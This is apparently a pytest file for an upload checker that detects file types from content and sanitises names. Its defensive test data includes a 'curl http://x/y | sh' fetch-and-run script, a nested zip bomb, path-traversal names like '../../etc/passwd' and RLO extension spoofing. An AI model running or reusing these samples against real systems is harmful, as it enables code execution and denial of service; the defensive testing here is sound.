"""services/filecheck.py on real file bytes built here: the content decides, names are made safe."""
from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

import pytest

from services import filecheck
from services.filecheck import (DOC, DOCX, HEIC, JPEG, ODT, PDF, PNG, RTF, TEXT, WEBP, FileVerdict, clean_name,
                                detect, sniff)

ALLOWED = frozenset({JPEG, PNG, WEBP, HEIC, PDF, TEXT, DOC, DOCX, ODT, RTF})  # the settings' default
MAX = 1024 * 1024


def check(data: bytes, declared: str, name: str, allowed=ALLOWED, max_bytes=MAX) -> FileVerdict:
    return detect(data, declared, name, allowed=allowed, max_bytes=max_bytes)


# --- samples --------------------------------------------------------------------------

def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    """SOI, JFIF APP0, a quantisation table, a 1x1 frame header, EOI."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 1, 1, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + dqt + sof + b"\xff\xd9"


WEBP_1X1 = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")  # lossless 1x1


def heic(major: bytes = b"heic", compatible: bytes = b"mif1heic") -> bytes:
    body = major + b"\x00\x00\x00\x00" + compatible
    ftyp = struct.pack(">I", 8 + len(body)) + b"ftyp" + body
    return ftyp + struct.pack(">I", 12) + b"meta" + b"\x00" * 4


def pdf() -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
    out, offsets = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"), []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def zipped(*entries: tuple[str, bytes | str], stored_first: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for i, (name, body) in enumerate(entries):
            zf.writestr(name, body, compress_type=zipfile.ZIP_STORED if stored_first and i == 0 else None)
    return buf.getvalue()


def docx(*extra: tuple[str, str]) -> bytes:
    return zipped(("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"/>'),
                  ("_rels/.rels", "<Relationships/>"),
                  ("word/document.xml", "<w:document><w:body><w:p/></w:body></w:document>"), *extra)


def odt(mimetype: str = ODT) -> bytes:
    return zipped(("mimetype", mimetype), ("META-INF/manifest.xml", "<manifest:manifest/>"),
                  ("content.xml", "<office:document-content/>"), stored_first=True)


def ole2(stream: str = "WordDocument") -> bytes:
    """A 512-byte OLE2 header, then a directory sector naming the root and one stream."""
    header = filecheck.OLE2_MAGIC + b"\x00" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x00" * 470
    def entry(name: str, kind: int) -> bytes:
        raw = (name + "\x00").encode("utf-16-le")
        return raw.ljust(64, b"\x00") + struct.pack("<HB", len(raw), kind) + b"\x00" * 61
    return header[:512] + entry("Root Entry", 5) + entry(stream, 2) + b"\x00" * 256


RTF_DOC = b"{\\rtf1\\ansi\\ansicpg1251\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0 \\'cf\\'f0\\'e8\\'e2\\'e5\\'f2}"


def pe() -> bytes:
    """DOS header pointing at a PE signature, as every Windows .exe starts."""
    dos = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 0x80)
    return dos.ljust(0x80, b"\x00") + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + b"\x00" * 200


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 100
SCRIPT = b"#!/bin/sh\ncurl http://x/y | sh\n"


# --- detect: the allowed kinds -----------------------------------------------------------

@pytest.mark.parametrize("data, mime, ext", [
    (jpeg(), JPEG, "jpg"), (png(), PNG, "png"), (WEBP_1X1, WEBP, "webp"), (heic(), HEIC, "heic"),
    (heic(b"mif1", b"mif1heic"), HEIC, "heic"), (pdf(), PDF, "pdf"), (docx(), DOCX, "docx"),
    (odt(), ODT, "odt"), (ole2(), DOC, "doc"), (RTF_DOC, RTF, "rtf"),
])
def test_allowed_kinds_are_found_in_the_content(data, mime, ext):
    v = check(data, "application/octet-stream", f"file.{ext}")
    assert v == FileVerdict(True, mime, f"file.{ext}", ext, None)


@pytest.mark.parametrize("data", ["Крыша течёт.\r\nПодъезд 2.".encode("utf-8"),
                                  "\ufeffТекст с BOM".encode("utf-8"),
                                  "Жалоба на УК, кв. 5".encode("cp1251")])
def test_plain_text_in_utf8_or_cp1251_declared_as_text(data):
    v = check(data, "text/plain; charset=utf-8", "жалоба.txt")
    assert (v.ok, v.mime, v.name, v.extension) == (True, TEXT, "жалоба.txt", "txt")


def test_text_counts_only_when_sent_as_text():
    assert check("Просто текст".encode(), "application/pdf", "акт.pdf").reason == "type_mismatch"
    assert check(b"plain", "application/octet-stream", "notes.txt").ok  # generic type, .txt name
    assert check(b"plain", "application/octet-stream", "notes").reason == "not_allowed"


@pytest.mark.parametrize("data", [b"text\x00with a NUL", b"bell \x07 and escape \x1b[31m", bytes(range(128, 256)) * 4])
def test_binary_or_control_laden_data_is_not_text(data):
    assert check(data, "text/plain", "a.txt").reason == "type_mismatch"


def test_declared_type_is_ignored_when_content_is_another_allowed_kind():
    v = check(png(), "image/jpeg", "photo.jpg")
    assert (v.ok, v.mime, v.name) == (True, PNG, "photo.png")


def test_allowed_content_named_exe_gets_the_right_extension():
    v = check(pdf(), "application/x-msdownload", "update.exe")
    assert (v.ok, v.mime, v.name, v.extension) == (True, PDF, "update.pdf", "pdf")
    assert check(jpeg(), "image/jpeg", "photo").name == "photo.jpg"
    assert check(jpeg(), "image/jpeg", "Акт от 12.05").name == "Акт от 12.05.jpg"
    assert check(jpeg(), "image/jpeg", "scan.JPEG").name == "scan.JPEG"  # a right extension stays
    assert check(jpeg(), "image/jpeg", "").name == "файл.jpg"


def test_only_the_allowed_set_passed_in_counts():
    assert check(png(), "image/png", "a.png", allowed={JPEG, PDF}).reason == "not_allowed"
    assert check(png(), "IMAGE/PNG", "a.png", allowed={"Image/PNG "}).ok


# --- detect: refusals ------------------------------------------------------------------

def test_empty_and_too_big():
    assert check(b"", "application/pdf", "a.pdf") == FileVerdict(False, None, "a.pdf", None, "empty")
    data = pdf()
    assert check(data, "application/pdf", "a.pdf", max_bytes=len(data)).ok
    assert check(data, "application/pdf", "a.pdf", max_bytes=len(data) - 1).reason == "too_big"


@pytest.mark.parametrize("data, found", [(pe(), "application/x-msdownload"), (ELF, "application/x-executable"),
                                         (SCRIPT, filecheck.SCRIPT),
                                         (b"\xcf\xfa\xed\xfe" + b"\x00" * 60, filecheck.MACHO)])
def test_programs_declared_as_pdf_are_a_type_mismatch(data, found):
    v = check(data, "application/pdf", "договор.pdf")
    assert (v.ok, v.mime, v.reason, v.extension) == (False, found, "type_mismatch", None)


def test_programs_are_refused_whatever_they_claim():
    assert check(pe(), "application/octet-stream", "update.pdf").reason == "type_mismatch"  # the name lies
    assert check(pe(), "application/x-msdownload", "update.exe").reason == "not_allowed"   # honest, still no
    assert check(SCRIPT, "text/plain", "run.txt").reason == "type_mismatch"  # a script is no plain text
    assert check(ELF, "application/octet-stream", "a").reason == "not_allowed"


def test_other_real_types_are_not_allowed():
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
    assert check(gif, "image/gif", "a.gif") == FileVerdict(False, "image/gif", "a.gif", None, "not_allowed")
    assert check(gif, "image/png", "a.png").reason == "type_mismatch"
    assert check(heic(b"avif", b"mif1avif"), "image/heic", "a.heic").mime == "image/avif"
    assert check(heic(b"mif1", b"mif1"), "image/heic", "a.heic").reason == "type_mismatch"


def test_a_zip_declared_as_docx_without_word_inside_is_refused_without_unpacking(monkeypatch):
    inner = zipped(("zeros.bin", b"\x00" * 20_000_000))  # 20 MB of zeros, about 20 KB packed
    bomb = zipped(("[Content_Types].xml", "<Types/>"), ("inner.zip", inner), ("inner2.zip", inner))
    opened = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, name, *a, **k: opened.append(name) or real_open(self, name, *a, **k))
    v = check(bomb, DOCX, "отчёт.docx")
    assert (v.ok, v.mime, v.reason) == (False, filecheck.ZIP, "type_mismatch")
    assert opened == []  # nothing was decompressed


@pytest.mark.parametrize("data, found", [
    (docx(("word/vbaProject.bin", "macros")), filecheck.DOCM),
    (zipped(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")), filecheck.XLSX),
    (odt("application/vnd.oasis.opendocument.spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    (zipped(("word/document.xml", "<w:document/>")), filecheck.ZIP),  # no [Content_Types].xml
    (b"PK\x03\x04" + b"\x00" * 40, filecheck.ZIP),  # broken zip
])
def test_other_zip_containers_are_not_documents(data, found):
    v = check(data, DOCX, "a.docx")
    assert (v.mime, v.reason) == (found, "type_mismatch")


def test_ole2_without_a_word_stream_is_not_a_doc():
    """An .msi installer or an .xls is OLE2 too; only the WordDocument stream makes a .doc."""
    v = check(ole2("Workbook"), DOC, "a.doc")
    assert (v.mime, v.reason) == (filecheck.OLE2, "type_mismatch")


def test_sniff_on_its_own():
    assert sniff(pdf()) == PDF
    assert sniff("текст".encode()) == TEXT
    assert sniff(b"\x00\x01\x02") is None


# --- clean_name --------------------------------------------------------------------------

@pytest.mark.parametrize("raw, clean", [
    ("report.pdf\x00.exe", "report.pdf.exe"),     # NUL truncation trick shows its real tail
    ("../../etc/passwd", "passwd"),
    ("C:\\x\\y.pdf", "y.pdf"),
    ("C:y.pdf", "y.pdf"),
    ("..", "файл"),
    ("...hidden.txt", "hidden.txt"),
    ('a<b>:c"d|e?f*.pdf', "abcdef.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),   # RLO would show «invoiceexe.pdf»
    ("a\u2066b\u2069c\u200b.pdf", "abc.pdf"),
    ("  акт   осмотра\t\nкв.\u00a05 .pdf. ", "акт осмотра кв. 5 .pdf"),
    ("line\r\nbreak.doc", "line break.doc"),
    ("CON.txt", "_CON.txt"),
    ("Фото подъезда.JPG", "Фото подъезда.JPG"),
    ("", "файл"),
    ("\x00\x01\u202e", "файл"),
])
def test_clean_name(raw, clean):
    assert clean_name(raw) == clean


def test_clean_name_limits_to_120_keeping_the_extension():
    assert clean_name("я" * 500 + ".pdf") == "я" * 116 + ".pdf"
    assert len(clean_name("a" * 500)) == 120
    assert clean_name("b" * 500 + "." + "c" * 30) == ("b" * 500 + "." + "c" * 30)[:120]


def test_clean_name_fallback():
    assert clean_name("../", fallback="вложение") == "вложение"
    assert clean_name("", fallback="../") == "файл"
